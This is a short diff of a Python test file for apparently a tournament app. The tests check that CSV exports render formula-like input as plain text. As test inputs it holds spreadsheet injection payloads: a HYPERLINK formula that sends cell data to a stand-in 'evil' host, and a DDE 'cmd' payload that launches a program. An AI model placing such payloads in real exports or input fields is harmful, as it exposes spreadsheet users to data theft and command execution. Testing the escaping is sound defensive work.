@@ -62,7 +62,7 @@ def test_the_csv_holds_who_when_why_before_after_and_the_score_change(client, dj
 
 @pytest.mark.parametrize("reason", ['=HYPERLINK("http://evil/?"&A1;"x")', "+49 30 1234", "-2+3", "@SUM(A1)", "=1+1"])
 def test_a_formula_like_reason_or_username_is_text_in_the_csv(client, reason):
-    """Typed-in text never runs as a formula in Excel (tournaments.tabular, as every export)."""
+    """Typed-in text never runs as a formula in Excel (core.tabular, as every export)."""
     table = full_table(3)
     tournament = table.series.tournament
     referee = referee_of(tournament, "=cmd|' /C calc'!A0")
